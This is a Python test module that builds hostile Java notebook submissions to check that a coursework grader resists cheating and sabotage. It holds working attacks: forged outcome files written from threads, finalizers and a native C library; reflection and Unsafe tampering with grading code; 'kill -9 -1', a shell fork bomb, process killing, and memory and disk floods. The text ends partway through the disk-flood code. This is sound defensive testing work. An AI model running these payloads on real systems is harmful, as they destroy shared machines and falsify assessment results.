"""The attack corpus: hostile A1 submissions that want marks without the work (issue #22).

Each attack is built on the STUDENT edition of A1 (what `scripts/release-coursework` hands out),
whose search only throws "A1: your code here": honest code there earns 0, so any point an attack
gets is a point the grader gave away. Each one is a realistic attempt, as strong as we could make it
against a naive grader: if its trick worked it would earn points (a forged outcome, the library's
search slipped past the check, a canned answer), or it would spoil the grading of others (a killed
grader, a fork bomb, a flooded disk). Each comment says what the attack does and what defends
against it.

    attacks = a1_attacks(nbformat.read("student/A1-dijkstra.ipynb", as_version=4))
    for name, attack in attacks.items():
        attack.notebook, attack.score, attack.words   # expected score 0, words its messages must hold

`scripts/checks/coursework-check` grades them mixed with the solution editions as one batch. The expected
messages are in WORDS below, in one place, as the grader's wording may change: an attack's `words`
is a tuple of alternatives, one of which (case aside) must be in the grader's output for it.

Some attacks harm the machine they escape to (they kill every process they can see, fork without
end, fill the memory or the disk): RISKY names them. Never run those outside a sandbox you trust;
`scripts/checks/coursework-check` runs the attack batch inside a safety net of its own (see there).
"""
import base64
import copy
import gzip
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import NamedTuple

from nbformat.v4 import new_code_cell

REPO = Path(__file__).resolve().parents[2]
STUB = 'throw new UnsupportedOperationException("A1: your code here");'

# The words the grader's output must contain for each kind of defence, in one place. Each entry
# is a tuple of alternatives (any one is enough, case aside).
# The graded-code policy's messages name the API and end in "... is not allowed in graded work" or
# "this is not among what graded work may use": POLICY is in every refused attack's alternatives.
POLICY = ("not allowed", "graded work may")
WORDS = {
    "refused": POLICY,                            # the bytecode policy refused the submission
    "thread": POLICY + ("thread",),
    "reflection": POLICY + ("reflection",),
    "library": ("library's",) + POLICY,           # the library's search used where the student's is asked
    "stack": POLICY + ("stack",),
    "static": POLICY + ("static",),
    "file": POLICY + ("file",),
    "process": POLICY + ("process",),
    "network": POLICY + ("network",),
    "native": POLICY + ("native",),
    "exit": POLICY + ("exit", "stopped"),
    "memory": ("memory",),                        # OutOfMemoryError, "ran out of memory"
    "output": ("output",) + POLICY,               # "printed too much output", "output limit"
    "time": ("time limit", "timed out", "did not finish"),
    "locked": ("locked cell",),
    "metadata": ("metadata", "not A1", "A1's"),
    "kernel": ("kernel", "metadata"),
    "honest-fail": ("A1: your code here",),       # the tests ran and failed as for the student edition
    "abort": ("abort",) + POLICY,
}

# Attacks that would harm the machine if they escaped the grader's sandbox.
RISKY = {"kill-all-processes", "kill-minus-one", "kill-parent", "fork-bomb", "thread-bomb",
         "memory-flood-cell", "memory-flood-search", "memory-flood-native", "disk-flood", "output-flood",
         "sibling-tamper", "junit-extension-in-test-classes"}

# Text that must never reach an attack's results: what it read and tried to leak.
LEAKS = {
    "read-hidden-tests-path": "RandomGraphs",       # a class only the hidden tests use
    "read-hidden-tests-resource": "RandomGraphs",
    "read-other-submissions": "keeps arrival order",  # a comment of the A1 solution edition
    "sibling-tamper": "keeps arrival order",
}

# The ids of A1's tests, as a student reads them in coursework/src (the hidden ones are public there).
A1_TESTS = [("A1Visible.example1Listing", 4, "visible"), ("A1Visible.example1Path", 2, "visible"),
            ("A1Visible.noPath", 1, "visible"), ("A1Hidden.randomGraphs", 3, "after_published"),
            ("A1Hidden.parallelConnections", 1, "after_published"), ("A1Hidden.startIsGoal", 1, "after_published")]


class Attack(NamedTuple):
    notebook: object        # the notebook (nbformat), or its text
    score: int              # expected score: 0
    words: tuple            # alternatives, one of which the grader's output for it must contain


# --- editing the student edition -------------------------------------------------------------

def _code_cells(nb, needle):
    return [c for c in nb.cells if c.cell_type == "code" and needle in c.source]


def _one(nb, needle):
    cells = _code_cells(nb, needle)
    assert len(cells) == 1, f"attacks: {needle!r} is in {len(cells)} cells of the student edition"
    return cells[0]


def search_body(nb, java):
    """Puts `java` at the start of MyDijkstra.search, before the stub, which stays (honest code
    fails). The trick sits in an if, so that the stub after it stays reachable for javac whether
    or not the trick always returns."""
    cell = _one(nb, "class MyDijkstra implements")
    head = "public List<Connection> search(Graph graph, int start, int goal, SearchListener listener) {\n"
    assert head in cell.source
    trick = "if (graph != null) {\n" + _indent(java, 4) + "\n}"
    cell.source = cell.source.replace(head, head + _indent(trick, 8) + "\n", 1)
    return nb


def class_members(nb, java):
    """Adds fields, methods or nested classes to MyDijkstra."""
    cell = _one(nb, "class MyDijkstra implements")
    head = "class MyDijkstra implements DijkstraSearch {\n"
    cell.source = cell.source.replace(head, head + _indent(java, 4) + "\n", 1)
    return nb


def cell_before(nb, needle, java):
    """A new cell of the student's before the cell holding `needle`."""
    index = nb.cells.index(_one(nb, needle))
    nb.cells.insert(index, new_code_cell(java.strip("\n")))
    return nb


def cell_after(nb, needle, java):
    index = nb.cells.index(_one(nb, needle))
    nb.cells.insert(index + 1, new_code_cell(java.strip("\n")))
    return nb


def cell_at_end(nb, java):
    nb.cells.append(new_code_cell(java.strip("\n")))
    return nb


def _indent(java, spaces):
    return "\n".join((" " * spaces + line) if line.strip() else "" for line in java.strip("\n").splitlines())


HANDIN = "Submission.handIn(new MyDijkstra());"
VISIBLE = 'Grading.runVisibleTests("A1")'
CLASS = "class MyDijkstra implements"

# --- Java pieces the attacks share -------------------------------------------------------------

# The library's own search behind the contract: 12/12 if the grader lets it through (the existing
# corpus's `library-search` shows the listing equals the lecture's).
LIBRARY_SEARCH = """
SearchResult r = new AStar(graph).search(start, goal, pathlab.search.Heuristic.ZERO, listener);
return r.found() ? r.path() : null;
"""

# Unsafe through reflection, the way a cell reaches it when nothing refuses it.
UNSAFE = """\
java.lang.reflect.Field theUnsafe = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
theUnsafe.setAccessible(true);
sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
"""

# The library's search named in strings and called by reflection, as the body of a DijkstraSearch.
SEARCH_BY_REFLECTION = """\
try {
    Class<?> kind = Class.forName("pathlab.search." + "AStar");
    Object search = kind.getConstructor(Graph.class).newInstance(graph);
    SearchResult r = (SearchResult) kind.getMethod("search", int.class, int.class, Heuristic.class,
            SearchListener.class).invoke(search, start, goal, Heuristic.ZERO, listener);
    return r.found() ? r.path() : null;
} catch (ReflectiveOperationException e) {
    throw new IllegalStateException(e);
}
"""


# Rewrites the grader's outcome file in the work folder (the kernel's working folder): every line
# of a failed test is appended again as passed. Today's grader keeps the last line per test.
FORGE = r"""
java.util.Set<String> forgedLines = java.util.concurrent.ConcurrentHashMap.newKeySet();

void forge() {
    try {
        java.nio.file.Path out = java.nio.file.Path.of("outcomes.jsonl");
        if (!java.nio.file.Files.exists(out)) return;
        StringBuilder more = new StringBuilder();
        for (String line : java.nio.file.Files.readAllLines(out)) {
            if (line.contains("\"passed\": false") && forgedLines.add(line)) {
                more.append(line.replace("\"passed\": false", "\"passed\": true")).append('\n');
            }
        }
        if (more.length() > 0) {
            java.nio.file.Files.writeString(out, more, java.nio.file.StandardOpenOption.APPEND);
        }
    } catch (Exception e) {
        // the file is being written: next time
    }
}
"""

# One passed outcome line per A1 test, in the grader's format (TestOutcome.json).
FAKE_LINES = "\\n".join(
    '{\\"id\\": \\"%s\\", \\"name\\": \\"%s\\", \\"max_score\\": %d, \\"visibility\\": \\"%s\\", '
    '\\"passed\\": true, \\"output\\": \\"\\"}' % (test, test, points, visibility)
    for test, points, visibility in A1_TESTS)

# The cheapest connection between consecutive named nodes: canned answers for the tests' small
# graphs (Example 1 from A to F; the parallel connections from A over B to C), no search at all.
CANNED = r"""
static List<Connection> through(Graph graph, String... names) {
    List<Connection> path = new ArrayList<>();
    for (int i = 0; i + 1 < names.length; i++) {
        int from = nodeNamed(graph, names[i]), to = nodeNamed(graph, names[i + 1]);
        int best = -1;
        for (int c = graph.firstConnection(from); c != Graph.NONE; c = graph.nextConnection(from, c)) {
            if (graph.connectionTo(c) == to && (best < 0 || graph.connectionCost(c) < graph.connectionCost(best))) best = c;
        }
        path.add(graph.connection(best));
    }
    return path;
}

static int nodeNamed(Graph graph, String name) {
    for (int n = 0; n < graph.nodeCount(); n++) if (graph.nodeName(n).equals(name)) return n;
    throw new IllegalArgumentException(name);
}

static List<Connection> canned(String test, Graph graph) {
    switch (test) {
        case "example1Path": return through(graph, "A", "B", "C", "D", "E", "F");
        case "noPath": return null;
        case "parallelConnections": return through(graph, "A", "B", "C");
        case "startIsGoal": return new ArrayList<>();
        default: throw new UnsupportedOperationException("A1: your code here");
    }
}
"""

# Printable runs of a class file's bytes: its constant pool, i.e. names, messages, numbers.
STRINGS = r"""
static String printable(byte[] bytes) {
    StringBuilder all = new StringBuilder(), run = new StringBuilder();
    for (byte b : bytes) {
        if (b >= 32 && b < 127) { run.append((char) b); continue; }
        if (run.length() >= 6) all.append(run).append(' ');
        run.setLength(0);
    }
    return all.toString();
}
"""


# --- compiled helpers: a JUnit extension, a native library -------------------------------------

def _java_home_tool(name):
    """A JDK tool of the JDK every script uses (scripts/toolchain.py)."""
    import toolchain
    return str(toolchain.executable(toolchain.find_jdk().home / "bin", name))


PASS_EVERYTHING = """
import java.lang.reflect.Method;
import org.junit.jupiter.api.extension.ExtensionContext;
import org.junit.jupiter.api.extension.InvocationInterceptor;
import org.junit.jupiter.api.extension.ReflectiveInvocationContext;

/** Skips every test method: JUnit then reports each test as successful. */
public class PassEverything implements InvocationInterceptor {
    @Override
    public void interceptTestMethod(Invocation<Void> invocation, ReflectiveInvocationContext<Method> context,
                                    ExtensionContext extension) {
        invocation.skip();
    }
}
"""


def pass_everything_class():
    """The bytes of PassEverything.class, compiled against the coursework's JUnit (a student would
    compile it at home and paste it in as text)."""
    javac = _java_home_tool("javac")
    lib = REPO / "coursework" / "target" / "lib"
    with tempfile.TemporaryDirectory(prefix="pathlab-attack-") as d:
        (Path(d) / "PassEverything.java").write_text(PASS_EVERYTHING)
        subprocess.run([javac, "--release", "17", "-cp", str(lib / "*"), "-d", d, str(Path(d) / "PassEverything.java")],
                       check=True, capture_output=True)
        return (Path(d) / "PassEverything.class").read_bytes()


# A native library that, once loaded, forges outcomes from a thread the JVM knows nothing of.
FORGE_C = r"""
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void *forge(void *unused) {
    long done = 0;                               /* lines of the file already looked at */
    static char line[1 << 16], forged[1 << 20];
    for (;;) {
        FILE *in = fopen("outcomes.jsonl", "r");
        if (in) {
            long seen = 0;
            size_t used = 0;
            while (fgets(line, sizeof line, in)) {
                if (seen++ < done) continue;
                char *f = strstr(line, "\"passed\": false");
                if (f && used + strlen(line) + 2 < sizeof forged) {
                    size_t head = (size_t) (f - line);
                    used += (size_t) sprintf(forged + used, "%.*s\"passed\": true%s", (int) head, line,
                                             f + strlen("\"passed\": false"));
                }
            }
            fclose(in);
            done = seen;
            if (used) {
                FILE *out = fopen("outcomes.jsonl", "a");
                if (out) { fwrite(forged, 1, used, out); fclose(out); }
            }
        }
        usleep(10000);
    }
    return unused;
}

__attribute__((constructor)) static void start(void) {
    pthread_t t;
    pthread_create(&t, 0, forge, 0);
    pthread_detach(t);
}
"""


def forge_library():
    """libforge.so, gzipped (None without a C compiler)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if not cc:
        return None
    with tempfile.TemporaryDirectory(prefix="pathlab-attack-") as d:
        (Path(d) / "forge.c").write_text(FORGE_C)
        r = subprocess.run([cc, "-shared", "-fPIC", "-Os", "-s", "-pthread", "-o", str(Path(d) / "libforge.so"),
                            str(Path(d) / "forge.c")], capture_output=True)
        if r.returncode:
            return None
        return gzip.compress((Path(d) / "libforge.so").read_bytes())


def _java_bytes(data):
    """A Java expression for these bytes: base64 text in string pieces (a literal holds 64 KB)."""
    text = base64.b64encode(data).decode()
    pieces = [text[i:i + 100] for i in range(0, len(text), 100)]
    return ("java.util.Base64.getDecoder().decode(String.join(\"\",\n    "
            + ",\n    ".join(f'"{p}"' for p in pieces) + "))")


# --- the attacks ----------------------------------------------------------------------------------

def a1_attacks(student):
    """Hostile A1 submissions made from the student edition: name -> Attack."""
    def nb():
        return copy.deepcopy(student)

    w = WORDS
    attacks = {}

    def add(name, notebook, words):
        attacks[name] = Attack(notebook, 0, words)

    # -- forged outcomes -------------------------------------------------------------------------
    # A background thread appends a passed copy of every failed line of outcomes.jsonl (the known
    # attack: 12/12 on the empty student edition). Defence: no threads (policy); outcomes reach the
    # trusted grader through a channel the submission cannot write.
    add("forge-outcomes-thread", cell_after(nb(), HANDIN, FORGE + """
Thread forger = new Thread(() -> {
    while (true) {
        forge();
        try { Thread.sleep(10); } catch (InterruptedException e) { }
    }
});
forger.setDaemon(true);
forger.start();
"""), w["thread"])
    # The same from a shutdown hook: it runs when the kernel is shut down after the tests, when
    # every line is in the file. Defence: shutdown hooks refused; outcomes not in a file it can reach.
    add("forge-outcomes-shutdown-hook", cell_after(nb(), HANDIN, FORGE + """
Runtime.getRuntime().addShutdownHook(new Thread(() -> forge()));
"""), w["thread"])
    # A finalizer that resurrects itself runs at every garbage collection, on the JVM's own
    # finalizer thread; the search asks for a collection at each call, so each test's failed line is
    # forged during the next test (11 of 12 points). Defence: finalizers refused.
    add("forge-outcomes-finalizer", search_body(cell_after(nb(), HANDIN, FORGE + """
class Ghost {
    static void haunt() {
        new Ghost();   // made in a method: a Ghost written as a cell's expression would be kept in $1
    }

    @Override
    protected void finalize() {
        forge();
        haunt();
    }
}
Ghost.haunt();
"""), """
System.gc();
System.runFinalization();
"""), w["refused"])
    # A static initializer, run at the first test's call of the search, starts a java.util.Timer
    # (a thread the student never names) that forges. Defence: Timer and threads refused.
    add("forge-outcomes-static-init", search_body(class_members(cell_before(nb(), CLASS, FORGE), """
static class Clock {
    static final java.util.Timer TIMER = new java.util.Timer(true);
    static {
        TIMER.schedule(new java.util.TimerTask() {
            public void run() { forge(); }
        }, 0, 10);
    }
}
"""), "java.util.Objects.requireNonNull(Clock.TIMER);"), w["thread"])
    # No thread at all: the search, called by each test, forges the lines written so far (all
    # but the last test's: 11 of 12 points). Defence: files refused; the outcome file out of reach.
    add("forge-outcomes-from-search", search_body(cell_before(nb(), CLASS, FORGE), "forge();"), w["file"])
    # At the first test, the search writes a passed line for every test (ids from the public
    # sources), then halts the JVM (through reflection, which the kernel's exit guard does not see):
    # no real line ever follows. Defence: files and reflection refused; a dead runner fails closed.
    add("forge-then-halt", search_body(nb(), r"""
java.nio.file.Path out = java.nio.file.Path.of("outcomes.jsonl");
if (java.nio.file.Files.exists(out)) {
    try {
        java.nio.file.Files.writeString(out, "FAKE\n", java.nio.file.StandardOpenOption.APPEND);
        Runtime.class.getMethod("halt", int.class).invoke(Runtime.getRuntime(), 0);
    } catch (Exception e) { }
}
""".replace("FAKE", FAKE_LINES)), w["reflection"])
    # Fake results on the standard streams, in a cell and at every test: the grader's line format,
    # "score 12/12", and the same through the raw file descriptors (past any System.setOut). A grader
    # that reads its runner's output would believe them. Defence: outcomes come through a channel of
    # the grader's own, never from the submission's output.
    fake_print = r"""
static void fakeResults() {
    String fake = "FAKE\nscore 12/12\n";
    System.out.print(fake);
    System.err.print(fake);
    try {
        java.io.FileOutputStream raw = new java.io.FileOutputStream(java.io.FileDescriptor.out);
        raw.write(fake.getBytes());
        raw.flush();
        java.io.FileOutputStream rawErr = new java.io.FileOutputStream(java.io.FileDescriptor.err);
        rawErr.write(fake.getBytes());
        rawErr.flush();
    } catch (java.io.IOException e) { }
}
""".replace("FAKE", FAKE_LINES)
    add("fake-results-printed", search_body(cell_after(class_members(nb(), fake_print), HANDIN,
                                                       "MyDijkstra.fakeResults();"),
                                            "fakeResults();"), w["honest-fail"] + w["file"])
    # System.setOut: everything printed from then on (the grader's own lines too, if it prints them
    # in the runner) passes through a filter that turns failures into passes. Defence: setOut refused.
    add("setout-rewrite", cell_after(nb(), HANDIN, r"""
java.io.PrintStream original = System.out;
System.setOut(new java.io.PrintStream(new java.io.OutputStream() {
    StringBuilder line = new StringBuilder();
    public void write(int b) {
        line.append((char) b);
        if (b == '\n') {
            original.print(line.toString().replace("\"passed\": false", "\"passed\": true")
                                          .replaceAll("score \\d+/", "score 12/"));
            line.setLength(0);
        }
    }
}, true));
System.setErr(System.out);
"""), w["refused"])

    # -- the library through the back door -------------------------------------------------------
    # The known shadow-class trick: a class of the student's called AStar makes today's text check
    # think "AStar" is theirs, while the search names the library's fully qualified. 12/12 today.
    # Defence: library use read from the bytecode (pathlab.search.AStar is named there).
    add("shadow-class", search_body(cell_before(nb(), CLASS, "class AStar {}"), """
pathlab.search.SearchResult r = new pathlab.search.AStar(graph).search(start, goal, pathlab.search.Heuristic.ZERO, listener);
return r.found() ? r.path() : null;
"""), w["library"])
    # The library's search by name through Class.forName and Method.invoke: the name is in a string,
    # which the text check blanks out. Defence: reflection refused.
    add("reflect-forname", search_body(nb(), "\n" + SEARCH_BY_REFLECTION), w["reflection"])
    # The same with method handles (java.lang.invoke, not java.lang.reflect). Defence: refused.
    add("reflect-methodhandles", search_body(nb(), """
try {
    Class<?> kind = Class.forName("pathlab.search.A" + "Star");
    var lookup = java.lang.invoke.MethodHandles.publicLookup();
    Object search = lookup.findConstructor(kind, java.lang.invoke.MethodType.methodType(void.class, Graph.class))
            .invoke(graph);
    SearchResult r = (SearchResult) lookup.findVirtual(kind, "search", java.lang.invoke.MethodType.methodType(
            SearchResult.class, int.class, int.class, pathlab.search.Heuristic.class, SearchListener.class))
            .invoke(search, start, goal, pathlab.search.Heuristic.ZERO, listener);
    return r.found() ? r.path() : null;
} catch (Throwable e) {
    throw new IllegalStateException(e);
}
"""), w["reflection"])
    # Reflection into the grading code: getDeclaredField + setAccessible empties the list of library
    # names A1 forbids, then the search uses the library openly. 12/12 today. Defence: reflection
    # refused; grading code out of the submission's JVM.
    add("reflect-grading-field", search_body(cell_before(nb(), CLASS, """
java.lang.reflect.Field parts = Assignment.class.getDeclaredField("libraryParts");
parts.setAccessible(true);
parts.set(Assignment.byId("A1"), List.of());
"""), LIBRARY_SEARCH), w["reflection"])
    # sun.misc.Unsafe writes a static final field of the grading code: Submission's map of what was
    # handed in becomes one that answers every contract with the library's search (named through
    # Class.forName, so no text check sees it). Defence: Unsafe and reflection refused.
    add("reflect-unsafe-static-final", cell_before(nb(), CLASS, "\n" + UNSAFE + """\
Class.forName(Submission.class.getName(), true, Submission.class.getClassLoader());   // its own value first
java.lang.reflect.Field handedIn = Submission.class.getDeclaredField("handedIn");
DijkstraSearch library = (graph, start, goal, listener) -> {
""" + _indent(SEARCH_BY_REFLECTION, 4) + "\n" + """\
};
unsafe.putObject(unsafe.staticFieldBase(handedIn), unsafe.staticFieldOffset(handedIn),
        new java.util.LinkedHashMap<Object, Object>() {
            @Override
            public Object get(Object contract) { return library; }
        });
"""), w["reflection"])
    # A static field of a grading class rewritten: the graded-code policy's set of harmless
    # java.lang names (JdkAllowlist.LANG_BASICS) becomes one that holds every name, so a policy
    # judging later cells in this JVM would pass them, here a search through reflection.
    # Defence: the policy runs in the trusted grader, before a class loads; Unsafe refused.
    add("static-write-grading-class", search_body(cell_before(nb(), CLASS, "\n" + UNSAFE + """\
Class<?> allowlist = Class.forName("pathlab.coursework.JdkAllowlist", true, Submission.class.getClassLoader());
java.lang.reflect.Field basics = allowlist.getDeclaredField("LANG_BASICS");
unsafe.putObject(unsafe.staticFieldBase(basics), unsafe.staticFieldOffset(basics),
        new java.util.HashSet<Object>() {
            @Override
            public boolean contains(Object name) { return true; }
        });
"""), "\n" + SEARCH_BY_REFLECTION), w["static"] + w["reflection"])
    # javax.tools compiles, at test time, a class that calls the library's search (its source is a
    # string), and loads it beside the notebook's classes. Defence: javax.tools, class loaders and
    # files refused.
    add("javax-tools-compiler", search_body(class_members(nb(), r"""
static DijkstraSearch compiled;

static DijkstraSearch compiled() throws Exception {
    if (compiled != null) return compiled;
    java.nio.file.Path dir = java.nio.file.Files.createTempDirectory("fast");
    java.nio.file.Files.writeString(dir.resolve("Fast.java"),
        "public class Fast implements pathlab.assignment.DijkstraSearch {\n"
        + "  public java.util.List<pathlab.graph.Connection> search(pathlab.graph.Graph g, int s, int t, pathlab.search.SearchListener l) {\n"
        + "    pathlab.search.SearchResult r = new pathlab.search.AStar(g).search(s, t, pathlab.search.Heuristic.ZERO, l);\n"
        + "    return r.found() ? r.path() : null;\n  }\n}\n");
    ClassLoader loader = Submission.class.getClassLoader();
    StringBuilder cp = new StringBuilder();
    for (java.net.URL u : ((java.net.URLClassLoader) loader).getURLs()) cp.append(java.io.File.pathSeparator).append(java.nio.file.Path.of(u.toURI()));
    javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, "-cp", cp.toString(), "-d", dir.toString(),
            dir.resolve("Fast.java").toString());
    compiled = (DijkstraSearch) new java.net.URLClassLoader(new java.net.URL[] {dir.toUri().toURL()}, loader)
            .loadClass("Fast").getConstructor().newInstance();
    return compiled;
}
"""), """
try {
    return compiled().search(graph, start, goal, listener);
} catch (Exception e) {
    throw new IllegalStateException(e);
}
"""), w["refused"])
    # The JShell API: a second JShell, run in this JVM, evaluates the library's Dijkstra on a copy
    # of the graph given as text (its source in a string) and answers with connection ids: every
    # test of the path (8 of 12 points). Defence: jdk.jshell refused.
    add("jshell-api", search_body(class_members(nb(), r"""
static jdk.jshell.JShell inner;

static List<Connection> inner(Graph graph, int start, int goal) throws Exception {
    if (inner == null) {
        inner = jdk.jshell.JShell.builder().executionEngine("local").build();
        for (java.net.URL u : ((java.net.URLClassLoader) Submission.class.getClassLoader()).getURLs()) {
            inner.addToClasspath(java.nio.file.Path.of(u.toURI()).toString());
        }
    }
    // the whole query as one expression: a throwaway object whose method builds and searches
    StringBuilder src = new StringBuilder("new Object() { String run() { var b = new pathlab.graph.DirectedGraph.Builder();");
    for (int n = 0; n < graph.nodeCount(); n++) src.append("b.addNode(\"n" + n + "\");");
    int count = 0;
    for (int n = 0; n < graph.nodeCount(); n++) {
        for (int c = graph.firstConnection(n); c != Graph.NONE; c = graph.nextConnection(n, c)) count = Math.max(count, c + 1);
    }
    for (int c = 0; c < count; c++) {
        src.append("b.addConnection(" + graph.connectionFrom(c) + ", " + graph.connectionTo(c) + ", " + graph.connectionCost(c) + ");");
    }
    src.append("var r = new pathlab.search.Dijkstra(b.build()).search(" + start + ", " + goal + ");");
    src.append("return r.found() ? r.path().stream().map(c -> String.valueOf(c.id())).collect(java.util.stream.Collectors.joining(\",\")) : \"none\"; } }.run()");
    String ids = inner.eval(src.toString()).get(0).value();
    ids = ids.replace("\"", "");
    if (ids.equals("none")) return null;
    List<Connection> path = new ArrayList<>();
    for (String id : ids.split(",")) if (!id.isEmpty()) path.add(graph.connection(Integer.parseInt(id)));
    return path;
}
"""), """
try {
    return inner(graph, start, goal);
} catch (Exception e) {
    throw new IllegalStateException(e);
}
"""), w["refused"])

    # -- canned answers: the stack, static state, equals ------------------------------------------
    # Which test is calling? The search reads its caller from the stack and returns the answer
    # canned for that test's small graph (5 points with no search). Three ways to read the stack.
    # Defence: stack walking refused.
    for name, caller in (
            ("stack-throwable", "for (StackTraceElement e : new Throwable().getStackTrace())\n"
                                "    if (e.getClassName().startsWith(\"pathlab.coursework.a1.\")) return canned(e.getMethodName(), graph);"),
            ("stack-walker", "String test = StackWalker.getInstance().walk(frames -> frames\n"
                             "        .filter(f -> f.getClassName().startsWith(\"pathlab.coursework.a1.\"))\n"
                             "        .map(StackWalker.StackFrame::getMethodName).findFirst().orElse(\"\"));\n"
                             "return canned(test, graph);"),
            ("stack-thread", "for (StackTraceElement e : Thread.currentThread().getStackTrace())\n"
                             "    if (e.getClassName().startsWith(\"pathlab.coursework.a1.\")) return canned(e.getMethodName(), graph);")):
        add(name, search_body(class_members(nb(), CANNED), caller), w["stack"])
    # A static counter carried from test to test: the tests call the search in a fixed order
    # (the listing, Example 1's path, no path, the random graphs, which give up at once, the
    # parallel connections, B to B), so call N gets the answer canned for test N. A cell at the end
    # resets the counter after the notebook's own calls. Defence: static-field writes outside
    # top-level code refused; each test in a fresh state.
    add("static-counter", cell_at_end(search_body(class_members(nb(), CANNED + "\nstatic int calls = 0;\n"), """
calls++;
if (calls == 2) return canned("example1Path", graph);
if (calls == 3) return canned("noPath", graph);
if (calls == 5) return canned("parallelConnections", graph);
if (calls == 6) return canned("startIsGoal", graph);
"""), "MyDijkstra.calls = 0;"), w["static"])
    # An equals that always agrees: on the small graphs the search returns a list holding any one
    # connection (a wrong answer) that claims to equal whatever it is compared with: a test that
    # asks actual.equals(expected) passes it. Defence: the tests compare with expected.equals(actual)
    # (JUnit's assertEquals does) and check paths connection by connection; 0 either way.
    add("equals-always-true", search_body(class_members(nb(), """
static class Agreeable extends ArrayList<Connection> {
    @Override public boolean equals(Object other) { return true; }
    @Override public int hashCode() { return 0; }
}
"""), """
if (graph.nodeCount() < 6 && graph.firstConnection(start) != Graph.NONE) {
    Agreeable yes = new Agreeable();
    yes.add(graph.connection(graph.firstConnection(start)));
    return yes;
}
"""), w["honest-fail"] + w["refused"])
    # Tests made to abort: an assumption that fails (TestAbortedException) is neither passed nor
    # failed in JUnit; a grader that counts "not failed" as passed gives every point. Defence:
    # only SUCCESSFUL counts; the message says the test was aborted.
    add("abort-assumption", search_body(nb(), 'org.junit.jupiter.api.Assumptions.assumeTrue(false, "skip me");'),
        w["abort"])
    add("abort-exception", search_body(nb(), 'if (true) throw new org.opentest4j.TestAbortedException("skip me");'),
        w["abort"])

    # -- JUnit reconfigured from a cell --------------------------------------------------------------
    # An extension that skips every test method (JUnit then reports success), switched on by a
    # system property and found through a service file; class, service file and junit-platform.properties
    # are written to the work folder, where a runner that puts it on its class path would find them.
    # Defence: System.setProperty and files refused; the runner's class path and configuration fixed.
    extension = pass_everything_class()
    write_extension = r"""
void writeExtension(java.nio.file.Path root) {
    try {
        java.nio.file.Files.createDirectories(root.resolve("META-INF/services"));
        java.nio.file.Files.write(root.resolve("PassEverything.class"), BYTES);
        java.nio.file.Files.writeString(root.resolve("META-INF/services/org.junit.jupiter.api.extension.Extension"), "PassEverything\n");
        java.nio.file.Files.writeString(root.resolve("junit-platform.properties"),
                "junit.jupiter.extensions.autodetection.enabled=true\njunit.jupiter.execution.timeout.mode=disabled\n");
    } catch (Exception e) { }
}
""".replace("BYTES", _java_bytes(extension))
    add("junit-system-properties", cell_after(nb(), HANDIN, write_extension + """
System.setProperty("junit.jupiter.extensions.autodetection.enabled", "true");
System.setProperty("junit.jupiter.conditions.deactivate", "*");
System.setProperty("junit.jupiter.execution.timeout.default", "1 h");
writeExtension(java.nio.file.Path.of("").toAbsolutePath());
"""), w["refused"])
    # The same files written where the hidden tests are loaded from (found from the class loader's
    # URLs: coursework/target/test-classes beside classes): JUnit's service loader then finds the
    # extension there, and every test passes, this submission's and every later one's. 12/12 today.
    # Defence: the grader's files are read-only to the runner; files and reflection refused.
    add("junit-extension-in-test-classes", cell_after(nb(), HANDIN, write_extension + """
for (java.net.URL u : ((java.net.URLClassLoader) Submission.class.getClassLoader()).getURLs()) {
    String path = u.getPath();
    if (path.endsWith("/coursework/target/classes/")) {
        writeExtension(java.nio.file.Path.of(path).resolveSibling("test-classes"));
    }
}
"""), w["file"])

    # -- processes and the machine ------------------------------------------------------------------
    # The known attack: kill the process that started the kernel (scripts/grade, or the batch's
    # worker: BrokenProcessPool, no CSV, leftover kernels). Defence: no process API; the runner in
    # its own pid namespace under another uid; the grader survives and fails it closed.
    add("kill-parent", cell_after(nb(), HANDIN,
                                  "ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);"),
        w["process"])
    # Every process it can see, at test time, when the other submissions' kernels are busiest.
    # Defence: pid namespace (it sees only itself), unprivileged uid, no process API.
    add("kill-all-processes", search_body(nb(), """
ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
"""), w["process"])
    # kill -9 -1 through a shell: as root outside a namespace, every process of the machine.
    add("kill-minus-one", cell_after(nb(), HANDIN, """
try {
    Runtime.getRuntime().exec(new String[] {"sh", "-c", "kill -9 -1"}).waitFor();
} catch (Exception e) { }
"""), w["process"])
    # A fork bomb. Defence: no process API; a process limit (cgroup pids) for the runner.
    add("fork-bomb", cell_after(nb(), HANDIN, """
try {
    new ProcessBuilder("sh", "-c", ":(){ :|:& };:").start();
} catch (Exception e) { }
"""), w["process"])
    # A thread bomb: threads that sleep forever and swallow interrupts, until none can be made.
    add("thread-bomb", cell_after(nb(), HANDIN, """
for (int i = 0; i < 10_000_000; i++) {
    try {
        Thread t = new Thread(() -> {
            while (true) {
                try { Thread.sleep(Long.MAX_VALUE); } catch (Throwable e) { }
            }
        });
        t.setDaemon(true);
        t.start();
    } catch (Throwable e) { }
}
"""), w["thread"])
    # Memory: the heap filled in a cell and kept (a top-level list), so the tests have none left.
    # Defence: a heap and memory limit per runner; the others unaffected.
    add("memory-flood-cell", cell_after(nb(), HANDIN, """
List<long[]> hoard = new ArrayList<>();
while (true) hoard.add(new long[1 << 24]);
"""), w["memory"])
    # The heap filled inside the search, at test time.
    add("memory-flood-search", search_body(class_members(nb(), "static List<long[]> hoard = new ArrayList<>();"),
                                           "while (true) hoard.add(new long[1 << 24]);"), w["memory"] + w["static"])
    # Memory outside the heap, which -Xmx does not bound: Unsafe.allocateMemory, every page touched.
    # Defence: the runner's cgroup memory limit; reflection refused.
    add("memory-flood-native", cell_after(nb(), HANDIN, "\n" + UNSAFE + """\
while (true) {
    long block = unsafe.allocateMemory(1L << 26);
    unsafe.setMemory(block, 1L << 26, (byte) 1);
}
"""), w["memory"] + w["reflection"])
    # The disk: one file written without end in the work folder. Defence: a disk quota (or file
    # size limit) for the runner; files refused.
    add("disk-flood", cell_after(nb(), HANDIN, """
try (java.io.FileOutputStream out = new java.io.FileOutputStream("flood.bin")) {
    byte[] mb = new byte[1 << 20];
